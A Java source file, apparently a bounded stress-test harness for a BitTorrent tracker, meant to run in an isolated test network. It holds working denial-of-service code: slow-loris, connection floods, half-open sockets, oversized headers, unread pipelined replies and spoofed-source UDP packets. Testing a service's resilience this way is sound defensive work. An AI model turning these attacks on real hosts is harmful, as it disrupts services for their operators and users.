import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.Random;
import java.util.concurrent.locks.LockSupport;

/**
 * Ways to be a nuisance to a tracker, each bounded in time and number. Run by {@code abuse.sh}, inside a network of its own
 * in which every address of 10.0.0.0/8 is this machine's, so that each request can come from another one. Prints what was
 * sent.
 *
 * <p>Usage: {@code java Abuse.java ATTACK HOST PORT SECONDS}
 */
public final class Abuse {
    private static final int MOST_CONNECTIONS = 6_000;
    private static final int MOST_PACKETS = 2_000_000;
    private static final int MOST_HEADERS = 500;
    private static final long MILLI = 1_000_000L;
    private static final byte[] REQUEST =
            ("GET /announce?info_hash=%00&peer_id=x HTTP/1.1\r\nHost: tracker\r\n").getBytes(StandardCharsets.US_ASCII);

    private final Random random = new Random(1);
    private final ArrayDeque<SocketChannel> open = new ArrayDeque<>();
    private final InetSocketAddress tracker;
    private final long end;
    private long opened;
    private long closed;
    private long packets;

    private Abuse(InetSocketAddress tracker, long end) {
        this.tracker = tracker;
        this.end = end;
    }

    public static void main(String[] args) throws IOException {
        InetSocketAddress tracker = new InetSocketAddress(args[1], Integer.parseInt(args[2]));
        long end = System.nanoTime() + Integer.parseInt(args[3]) * 1_000_000_000L;
        Abuse abuse = new Abuse(tracker, end);
        switch (args[0]) {
            case "slow-loris" -> abuse.slowLoris();
            case "connection-flood" -> abuse.connectionFlood();
            case "half-open" -> abuse.halfOpen();
            case "huge-headers" -> abuse.hugeHeaders();
            case "unread-replies" -> abuse.unreadReplies();
            case "random-packets" -> abuse.packets(false);
            case "spoofed-sources" -> abuse.packets(true);
            default -> throw new IllegalArgumentException("no such attack: " + args[0]);
        }
        System.out.printf(
                "%d connections, %d of them found closed by the tracker; %d packets%n", abuse.opened, abuse.closed, abuse.packets);
    }

    /** Thousands of connections, each of which sends a byte of its headers now and then. */
    private void slowLoris() throws IOException {
        while (goesOn()) {
            for (int i = 0; i < 50 && open.size() < MOST_CONNECTIONS; i++) {
                connect();
                send(open.removeLast(), REQUEST);
            }
            for (int i = Math.min(200, open.size()); i > 0; i--) {
                send(open.remove(), new byte[] {'x'});
            }
            pause(20 * MILLI);
        }
    }

    /** Connections as fast as they can be made, which say nothing. */
    private void connectionFlood() throws IOException {
        while (goesOn()) {
            connect();
            if (open.size() >= MOST_CONNECTIONS) {
                open.remove().close();
            }
            pause(MILLI / 10);
        }
    }

    /** Connections that begin to ask, end their sending side, and stay. */
    private void halfOpen() throws IOException {
        while (goesOn()) {
            if (open.size() < MOST_CONNECTIONS) {
                connect();
                SocketChannel channel = open.removeLast();
                if (send(channel, new byte[] {'G'})) {
                    channel.shutdownOutput();
                }
            }
            pause(MILLI / 2);
        }
    }

    /** Requests whose headers do not end. */
    private void hugeHeaders() throws IOException {
        byte[] header = ("X-Filler: " + "y".repeat(16_000) + "\r\n").getBytes(StandardCharsets.US_ASCII);
        while (goesOn()) {
            connect();
            SocketChannel channel = open.removeLast();
            boolean taken = send(channel, REQUEST);
            for (int i = 0; i < MOST_HEADERS && taken && goesOn(); i++) {
                taken = send(open.removeLast(), header);
            }
            if (taken) {
                open.removeLast().close();
            }
            pause(MILLI / 2);
        }
    }

    /** Pipelined requests whose replies are never read. */
    private void unreadReplies() throws IOException {
        byte[] requests = "GET /scrape?info_hash=%00 HTTP/1.1\r\nHost: tracker\r\n\r\n"
                .repeat(200)
                .getBytes(StandardCharsets.US_ASCII);
        while (goesOn()) {
            if (open.size() < 500) {
                connect();
            }
            if (!open.isEmpty()) {
                send(open.remove(), requests);
            }
            pause(2 * MILLI);
        }
    }

    /** Packets of noise, or connect requests and announces with a guessed connection id, each from another address. */
    private void packets(boolean meaningful) throws IOException {
        while (goesOn() && packets < MOST_PACKETS) {
            try (DatagramSocket socket = new DatagramSocket(new InetSocketAddress(anyAddress(), 0))) {
                for (int i = 0; i < 16; i++) {
                    byte[] bytes = meaningful ? request() : noise();
                    socket.send(new DatagramPacket(bytes, bytes.length, tracker));
                    packets++;
                }
            }
            pause(MILLI / 2);
        }
    }

    private byte[] noise() {
        byte[] bytes = new byte[random.nextInt(1400)];
        random.nextBytes(bytes);
        return bytes;
    }

    private byte[] request() {
        if (random.nextBoolean()) {
            return ByteBuffer.allocate(16).putLong(0x417_2710_1980L).putInt(0).putInt(random.nextInt()).array();
        }
        byte[] announce = new byte[98];
        random.nextBytes(announce);
        ByteBuffer.wrap(announce).putInt(8, 1);
        return announce;
    }

    /** Begins a connection from some address, at the end of the line. */
    private void connect() throws IOException {
        SocketChannel channel = SocketChannel.open();
        channel.configureBlocking(false);
        channel.bind(new InetSocketAddress(anyAddress(), 0));
        channel.connect(tracker);
        open.add(channel);
        opened++;
    }

    /** Sends as much of this as fits and puts the connection at the end of the line, unless the tracker has closed it. */
    private boolean send(SocketChannel channel, byte[] bytes) throws IOException {
        try {
            if (channel.finishConnect()) {
                channel.write(ByteBuffer.wrap(bytes));
            }
            open.add(channel);
            return true;
        } catch (IOException e) {
            closed++;
            channel.close();
            return false;
        }
    }

    private InetAddress anyAddress() throws IOException {
        return InetAddress.getByAddress(new byte[] {
            10, (byte) random.nextInt(256), (byte) random.nextInt(256), (byte) (1 + random.nextInt(254))
        });
    }

    private boolean goesOn() {
        return System.nanoTime() < end;
    }

    private static void pause(long nanos) {
        LockSupport.parkNanos(nanos);
    }
}
